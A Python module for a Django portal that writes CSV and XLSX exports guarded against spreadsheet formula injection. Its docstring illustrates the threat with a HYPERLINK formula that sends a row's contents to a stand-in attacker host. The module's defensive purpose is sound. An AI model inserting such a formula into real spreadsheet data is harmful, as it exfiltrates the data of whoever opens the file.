"""Spreadsheet files that cannot attack their reader: every CSV and XLSX the portal writes.

A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some, tab or
carriage return) as a formula: `=HYPERLINK("http://evil.example/?x="&A2,"Open report")` in a
city's native name would send the row to whoever wrote it. So:

- CSV: a text cell starting with one of those gets a leading `'`, which spreadsheets show as
  text and hide. A phone number (`+` then only digits, spaces and parentheses) carries no
  function or reference and stays as written, so `+358 5 123 4567` keeps its `+`.
- XLSX: every text cell is written as a string cell, never a formula, and a risky one also gets
  the quote-prefix style (shown as text, also after editing), with its value unchanged.
- Numbers (int, Decimal, float) stay numbers in both.

`/twins.csv`, `/twins.xlsx` and every admin export (`FormulaSafeExportMixin`) write through here.
"""

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.core.exceptions import PermissionDenied
from django.utils import timezone
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PHONE = re.compile(r"\+[0-9 ()]+")
QUOTE = "'"


def risky(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula."""
    return text.startswith(TRIGGERS) and PHONE.fullmatch(text) is None


def csv_cell(value):
    """The value as a CSV cell: risky text quoted, numbers and everything else as they are."""
    if value is None:
        return ""
    if isinstance(value, str) and risky(value):
        return QUOTE + value
    return value


def csv_cell_unquote(value):
    """A cell of a file read back (an admin import): the quote this module added is dropped."""
    if isinstance(value, str) and value.startswith(QUOTE) and risky(value[1:]):
        return value[1:]
    return value


def csv_write(stream, header: Sequence, rows: Iterable[Sequence]) -> None:
    writer = csv.writer(stream)
    writer.writerow([csv_cell(str(title)) for title in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])


def _xlsx_value(value):
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        # Excel has no time zones: the local time, as the portal shows it.
        return timezone.localtime(value).replace(tzinfo=None)
    if value is None or isinstance(value, (int, float, Decimal, datetime.date, datetime.time)):
        return value
    # Control characters XLSX cannot hold become U+FFFD instead of failing the whole file.
    return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", str(value))


def xlsx_bytes(header: Sequence, rows: Iterable[Sequence], *, title: str = "Sheet") -> bytes:
    """A workbook of one sheet: text as string cells (never formulas), numbers as numbers."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(title)[:31]
    for row_number, row in enumerate([[str(title) for title in header], *rows], start=1):
        for column_number, value in enumerate(row, start=1):
            value = _xlsx_value(value)
            if value is None:
                continue
            cell = sheet.cell(row=row_number, column=column_number, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would store "=…" as a formula
                if risky(value):
                    cell.quotePrefix = True
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs) -> str:
        stream = io.StringIO()
        csv_write(stream, dataset.headers or [], dataset)
        return stream.getvalue()


class SafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs) -> bytes:
        return xlsx_bytes(dataset.headers or [], dataset, title=dataset.title or "Sheet")


SAFE_FORMATS = [SafeCSV, SafeXLSX]


class FormulaSafeExportMixin:
    """For a django-import-export admin: it offers the safe formats only, and hands them values
    of their own types (a number stays a number, in CSV as in XLSX)."""

    formats = SAFE_FORMATS

    def get_export_formats(self):
        return [f for f in super().get_export_formats() if issubclass(f, tuple(SAFE_FORMATS))]

    def get_export_data(self, file_format, request, queryset, **kwargs):
        if not self.has_export_permission(request):
            raise PermissionDenied
        data = self.get_data_for_export(request, queryset, force_native_type=True, **kwargs)
        export_data = file_format.export_data(data)
        encoding = kwargs.get("encoding")
        if not file_format.is_binary() and encoding:
            export_data = export_data.encode(encoding)
        return export_data
